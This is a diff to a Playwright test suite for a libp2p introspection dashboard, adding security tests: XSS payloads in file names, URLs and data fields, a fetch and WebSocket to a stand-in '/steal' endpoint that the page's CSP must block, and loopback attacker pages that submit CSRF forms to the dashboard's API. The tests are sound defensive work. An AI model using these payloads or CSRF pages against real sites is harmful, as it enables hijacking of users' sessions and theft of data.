@@ -12,6 +12,7 @@ where they fail (``.ci/run`` installs Debian's chromium).
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import time
@@ -27,12 +28,33 @@ CHROMIUM = Path(os.environ.get("LIBP2P_INTROSPECTION_CHROMIUM", "/usr/bin/chromi
 CHROMIUM_ARGS = [
     "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
     "--disable-background-networking", "--disable-component-update", "--disable-sync",
+    "--host-resolver-rules=MAP evil.test 127.0.0.1",  # another site, on loopback
 ]  # fmt: skip
 ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "dashboard"
 SAMPLE_PEER = "8de3166db28fddb199f05be0acea65772e7a1b289086902160d1060e83dac2fd"
 #: Bound on any one thing the page should come to show, ms.
 SHOW_TIMEOUT_MS = 20_000
 INTERVAL_MS = 300
+#: Runs in every page before its own scripts. Records: calls of window.xss (what a
+#: hostile payload calls if parsed as markup), elements a payload would insert, and
+#: Content-Security-Policy violations (the page's own must cause none).
+WATCH_SCRIPT = """
+window.__xss = [];
+window.xss = (field) => window.__xss.push(String(field));
+window.__injected = [];
+window.__csp = [];
+document.addEventListener("securitypolicyviolation", (e) =>
+  window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
+const watch = new MutationObserver((records) => {
+  for (const r of records) for (const n of r.addedNodes) {
+    if (n.nodeType !== 1) continue;
+    for (const x of [n, ...n.querySelectorAll("*")]) {
+      if (x.matches("img, script, iframe, object, embed, .xss")) window.__injected.push(x.outerHTML.slice(0, 160));
+    }
+  }
+});
+document.addEventListener("DOMContentLoaded", () => watch.observe(document, { childList: true, subtree: true }));
+"""
 
 
 def _unavailable(reason: str) -> None:
@@ -75,21 +97,34 @@ def demo() -> Iterator[dict[str, str]]:
         yield {"ws": first, "dashboard": dashboard, "peer": peer.group(1)}
 
 
-@pytest.fixture
-def page(browser: Any) -> Iterator[Any]:
+def _open_page(browser: Any, **options: Any) -> Iterator[Any]:
+    """A page in a new context; after the test: no page errors, no CSP violations."""
     from playwright.sync_api import expect
 
-    context = browser.new_context(viewport={"width": 1400, "height": 1000})
+    context = browser.new_context(viewport={"width": 1400, "height": 1000}, **options)
     context.set_default_timeout(SHOW_TIMEOUT_MS)
+    context.add_init_script(WATCH_SCRIPT)
     # Assertions have their own timeout (5 s by default): a loaded 2-core machine
     # can need longer to reconnect and redraw, so they wait as long as actions do.
     expect.set_options(timeout=SHOW_TIMEOUT_MS)
     page = context.new_page()
     errors: list[str] = []
     page.on("pageerror", lambda exc: errors.append(str(exc)))
+    # CSP refusals, of every document the page showed (a test that provokes some clears it).
+    page.csp_refusals = []
+    page.on("console", lambda m: page.csp_refusals.append(m.text) if "Content Security Policy" in m.text else None)
     yield page
+    violations = page.evaluate("() => window.__csp || []") if not page.is_closed() else []
     context.close()
     assert not errors, f"errors in the page: {errors}"
+    assert not violations and not page.csp_refusals, (
+        f"the page broke its own Content-Security-Policy: {violations} {page.csp_refusals}"
+    )
+
+
+@pytest.fixture
+def page(browser: Any) -> Iterator[Any]:
+    yield from _open_page(browser)
 
 
 def shot(page: Any, name: str) -> None:
@@ -298,3 +333,277 @@ def test_dashboard_file_option_shows_a_recording(page: Any, fixtures_dir: Path):
         open_tab(page, "events")
         expect(page.locator("#event-chips .chip[data-type=InboundDHTQuery] .n")).to_have_text("465")
         shot(page, "recording-events")
+
+
+# ---------------------------------------------------------------- hostile strings
+
+NUMBER_TIP = re.compile(r"^\d+ bytes; now \d+ bytes per second$")
+
+
+def hover_every_cell(page: Any, table: str, tooltips: dict[str, Any]) -> int:
+    """Hover each cell of ``table``; where its column has a tooltip, wait for it and check
+    its text (``tooltips``: field -> exact text or pattern). Returns the cells hovered."""
+    from playwright.sync_api import expect
+
+    expect(page.locator(f"{table} .tabulator-row").first).to_be_visible()
+    cells = page.locator(f"{table} .tabulator-row .tabulator-cell")
+    count = cells.count()
+    assert count > 0, f"no cells in {table}"
+    # Each table has its own tooltip, which stays until that table shows another (or a
+    # click): the one just opened is the newest in the document.
+    tip = page.locator(".tabulator-tooltip").last
+    for i in range(count):
+        cell = cells.nth(i)
+        field = cell.get_attribute("tabulator-field")
+        cell.hover()
+        if field in tooltips:
+            expect(tip).to_have_text(tooltips[field])
+    return count
+
+
+def assert_nothing_ran(page: Any) -> None:
+    ran = page.evaluate("() => window.__xss")
+    injected = page.evaluate("() => window.__injected")
+    assert not ran and not injected, f"payloads parsed as markup: ran {ran}, inserted {injected}"
+
+
+def walk_every_view(page: Any, fields: dict[str, str]) -> None:
+    """Open each view of the hostile node, hover every cell: each string shows as text."""
+    from playwright.sync_api import expect
+
+    f = fields
+    # A message (a command's answer) that goes away would move the tables under the mouse.
+    expect(page.locator("#message")).to_be_hidden()
+    # The node header.
+    expect(page.locator("#peer-id")).to_have_text(f["runtime.peer_id"])
+    expect(page.locator("#peer-id")).to_have_attribute("title", f["runtime.peer_id"])
+    for field, box in (("implementation", "impl"), ("version", "version"), ("platform", "platform")):
+        expect(page.locator(f"#runtime-{box}")).to_have_text(f[f"runtime.{field}"])
+
+    # Connections: every cell, tooltips included; then the connection's streams.
+    open_tab(page, "connections")
+    expect(page.locator("#connections-table .tabulator-row")).to_have_count(1)
+    row = page.locator("#connections-table .tabulator-row").first
+    expect(row.locator(".peer-cell")).to_have_attribute("title", f["conn.peer_id"])
+    expect(row.locator("[tabulator-field=src]")).to_have_text(f"{f['conn.src']}→ {f['conn.dst']}")
+    for field, name in (("transport", "conn.transport_id"), ("mux", "conn.muxer"), ("sec", "conn.security")):
+        expect(row.locator(f"[tabulator-field={field}]")).to_have_text(f[name])
+    hover_every_cell(page, "#connections-table", {
+        "src": f"{f['conn.src']} → {f['conn.dst']}", "transport": f["conn.transport_id"],
+        "mux": f["conn.muxer"], "sec": f["conn.security"], "in": NUMBER_TIP, "out": NUMBER_TIP,
+    })  # fmt: skip
+    row.locator("[tabulator-field=status]").click()
+    expect(page.locator("#detail-peer")).to_have_text(f"{f['conn.peer_id']} (ACTIVE)")
+    expect(page.locator("#conn-streams-table .tabulator-row")).to_have_count(2)
+    stream_tips = {"proto": re.compile(r"^<img src=x .*stream\.protocol"), "in": NUMBER_TIP, "out": NUMBER_TIP}
+    hover_every_cell(page, "#conn-streams-table", stream_tips)
+    page.click("#detail-close")
+    expect(page.locator("#conn-detail")).to_be_hidden()
+
+    # Streams of every connection.
+    open_tab(page, "streams")
+    expect(page.locator("#streams-table .tabulator-row")).to_have_count(2)
+    protos = page.locator("#streams-table .tabulator-row [tabulator-field=proto]").all_inner_texts()
+    assert sorted(p.strip() for p in protos) == sorted([f["stream.protocol"], f["stream.protocol.2"]])
+    hover_every_cell(page, "#streams-table", stream_tips)
+
+    # Traffic: the connection chooser's options, and the charts' legends.
+    open_tab(page, "traffic")
+    option = page.locator("#traffic-conn option").nth(1)
+    expect(option).to_have_text(re.compile(r" · ACTIVE · " + re.escape(f["conn.muxer"]) + "$"))
+    page.select_option("#traffic-conn", index=1)
+    expect(page.locator("#chart-node .u-legend")).to_contain_text("in")
+
+    # DHT: the summary, the bucket's group header, every cell.
+    open_tab(page, "dht")
+    expect(page.locator("#dht-table .tabulator-row:not(.tabulator-group)")).to_have_count(1)
+    expect(page.locator("#dht-summary")).to_contain_text(f"{f['dht.protocol']} enabled")
+    expect(page.locator("#dht-table .tabulator-group").first).to_contain_text("common prefix length 0")
+    expect(page.locator("#dht-table .peer-cell")).to_have_attribute("title", f["dht.peer"])
+    hover_every_cell(page, "#dht-table", {})
+
+    # Events: the type's chip, the rows, each event's JSON.
+    open_tab(page, "events")
+    chip = page.locator("#event-chips .chip").first
+    expect(chip.locator(".type-chip")).to_have_text(f["event.type"])
+    expect(chip).to_have_attribute("data-type", f["event.type"])
+    chip.click()
+    expect(page.locator("#event-chips .chip.on")).to_have_count(1)
+    rows = page.locator("#events-table .tabulator-row")
+    expect(rows.nth(1)).to_be_visible()
+    types = page.locator("#events-table .tabulator-row [tabulator-field=type]").all_inner_texts()
+    assert len(types) >= 2 and {t.strip() for t in types} == {f["event.type"]}, types
+    summaries = " ".join(page.locator("#events-table .tabulator-row [tabulator-field=summary]").all_inner_texts())
+    # (A summary is cut at 240 characters: the JSON below has the rest.)
+    assert json.dumps(f["event.key"]) in summaries and f["event.text"] in summaries, summaries
+    hover_every_cell(page, "#events-table", {})
+    for k in (0, 1):  # open the JSON of the two newest (a click toggles it)
+        if rows.nth(k).locator("pre.event-json").count() == 0:
+            rows.nth(k).locator("[tabulator-field=summary]").click()
+        expect(rows.nth(k).locator("pre.event-json")).to_have_count(1)
+    shown = " ".join(page.locator("#events-table pre.event-json").all_inner_texts())
+    for name in ("event.type", "event.key", "event.value", "event.item", "event.property", "event.text"):
+        assert json.dumps(f[name]) in shown, (name, shown)
+    chip.click()  # the filter off again
+    expect(page.locator("#event-chips .chip.on")).to_have_count(0)
+
+    # A message quoting a string: copying a peer id.
+    open_tab(page, "connections")
+    page.locator("#connections-table .tabulator-row button.copy").click()
+    expect(page.locator("#message")).to_have_text(f"copied {f['conn.peer_id']}")
+    assert_nothing_ran(page)
+
+
+@pytest.fixture
+def unprotected_page(browser: Any) -> Iterator[Any]:
+    """A page whose CSP the browser ignores: the page's own escaping must hold alone."""
+    yield from _open_page(browser, bypass_csp=True)
+
+
+def test_hostile_strings_from_a_server_and_a_recording_show_as_text(
+    unprotected_page: Any, tmp_path: Path
+):  # fmt: skip
+    from hostile_recording import FIELDS, payload, write_hostile_recording
+    from playwright.sync_api import expect
+
+    page = unprotected_page
+    recording = write_hostile_recording(tmp_path / "hostile.mock")
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    serve = ["-m", "libp2p_introspection", "serve", "--source", str(recording), "--loop",
+             "--port", "0"]  # fmt: skip
+    with running(serve, first_line_timeout=60) as (_, ws_url), \
+            running(["-m", "libp2p_introspection", "dashboard", "--port", "0", ws_url],
+                    first_line_timeout=60) as (_, url):  # fmt: skip
+        # A live server sending them.
+        page.goto(url)
+        expect(page.locator("#conn-state")).to_have_text("connected")
+        expect(page.locator("#peer-id")).to_have_text(FIELDS["runtime.peer_id"])
+        # The replay loops (each pass sends the two events again): once they are here,
+        # hold the picture still while hovering.
+        page.wait_for_function("() => window.dashboardState.events.length >= 2")
+        page.click("#pause-btn")
+        expect(page.locator("#feed-state")).to_have_text("paused")
+        walk_every_view(page, FIELDS)
+        shot(page, "hostile-live")
+
+        # The same strings in a recording, opened from the page under a hostile file name.
+        name = '<img src=x onerror="xss(\'file.name\')">.mock'  # a file name has no "/"
+        page.set_input_files("#file-input", files=[
+            {"name": name, "mimeType": "application/octet-stream", "buffer": recording.read_bytes()}
+        ])  # fmt: skip
+        expect(page.locator("#mode-badge")).to_have_text("recording")
+        expect(page.locator("#recording-name")).to_contain_text(f"{name} · 3 snapshots · 2 events")
+        walk_every_view(page, FIELDS)
+        shot(page, "hostile-recording")
+
+        # A hostile URL typed into the Connect box: shown as text, in the header and messages.
+        hostile_url = "ws://127.0.0.1:9/" + payload("url")
+        page.fill("#connect-url", hostile_url)
+        page.click("#connect-btn")
+        expect(page.locator("#server-url")).to_have_text(hostile_url)
+        expect(page.locator("#mode-badge")).to_have_text("live")
+        expect(page.locator("#conn-state")).not_to_have_text("connected")
+        assert_nothing_ran(page)
+
+
+def test_the_page_runs_under_a_csp_that_stops_injected_script_and_foreign_requests(
+    page: Any, demo: dict[str, str]
+):  # fmt: skip
+    from playwright.sync_api import expect
+
+    response = page.goto(demo["dashboard"])
+    policy = response.headers.get("content-security-policy", "")
+    assert "script-src 'self'" in policy and "unsafe-inline" not in policy, policy
+    assert "unsafe-eval" not in policy and "frame-ancestors 'none'" in policy, policy
+    expect(page.locator("#conn-state")).to_have_text("connected")
+    expect(page.locator("#connections-table .tabulator-row").first).to_be_visible()
+    # Markup that got into the page anyway could not run script...
+    page.evaluate("""() => document.body.insertAdjacentHTML(
+        'beforeend', '<img src=x onerror="xss(\\'inline\\')">')""")
+    page.wait_for_function("() => window.__csp.some((v) => v.startsWith('script-src'))")
+    # ...nor send what it read to another origin (fetch or WebSocket).
+    sent = page.evaluate("""() => fetch('http://127.0.0.2:9/steal', {method: 'POST', body: 'x'})
+        .then(() => 'sent', () => 'not sent')""")
+    assert sent == "not sent"
+    page.evaluate("() => { try { new WebSocket('ws://127.0.0.2:9/steal'); } catch (e) {} }")
+    page.wait_for_function(
+        "() => window.__csp.filter((v) => v.startsWith('connect-src')).length >= 2"
+    )
+    assert page.evaluate("() => window.__xss") == []
+    page.evaluate("() => { window.__csp.length = 0; }")  # these were ours, not the page's
+    page.csp_refusals.clear()
+
+
+class _AttackerPages:
+    """Another site's pages, served on loopback: each POSTs a command to the dashboard."""
+
+    def __init__(self, dashboard: str) -> None:
+        import http.server
+        import threading
+
+        target = dashboard.rstrip("/")
+        form = '{"url": "ws://127.0.0.1:9/csrf", "x": "'
+        pages = {
+            # A plain HTML form: text/plain body that parses as JSON; submitted on load.
+            "/form-connect": f"""<form method=POST action="{target}/api/connect" enctype="text/plain">
+                <input name='{form}' value='"}}'></form>
+                <script>document.forms[0].submit()</script>""",
+            "/form-pause": f"""<form method=POST action="{target}/api/pause"></form>
+                <script>document.forms[0].submit()</script>""",
+            # A script's simple request (no preflight): text/plain, sent even though the
+            # answer is unreadable.
+            "/fetch-connect": f"""<script>
+                fetch("{target}/api/connect", {{method: "POST", mode: "no-cors",
+                  headers: {{"Content-Type": "text/plain"}},
+                  body: JSON.stringify({{url: "ws://127.0.0.1:9/csrf"}})}})
+                  .catch(() => null)  // its answer is unreadable here whatever it was
+                  .finally(() => {{ document.title = "done"; }});
+                </script>""",
+        }
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                body = pages.get(self.path, "").encode()
+                self.send_response(200 if body else 404)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_another_origin_cannot_drive_the_dashboard(page: Any):
+    # Commands were taken from any loopback origin: a page on another local port (a dev
+    # server, a page the node's own tools served) could repoint the dashboard's feed.
+    import urllib.request
+
+    args = ["-m", "libp2p_introspection", "dashboard", "--port", "0", "ws://127.0.0.1:9/introspect"]
+    with running(args, first_line_timeout=60) as (_, url):
+        attacker = _AttackerPages(url)
+        try:
+            def status() -> dict[str, Any]:
+                with urllib.request.urlopen(url + "api/status", timeout=10) as response:
+                    return json.load(response)
+
+            before = status()
+            for origin in (f"http://127.0.0.1:{attacker.port}", f"http://evil.test:{attacker.port}"):
+                for path in ("/form-connect", "/form-pause"):
+                    with page.expect_response(lambda r: "/api/" in r.url) as answer:
+                        page.goto(origin + path)
+                    assert answer.value.status == 403, (origin, path, answer.value.status)
+                page.goto(origin + "/fetch-connect")
+                page.wait_for_function("() => document.title === 'done'")
+            after = status()
+            assert (after["url"], after["paused"]) == (before["url"], before["paused"]), after
+        finally:
+            attacker.close()
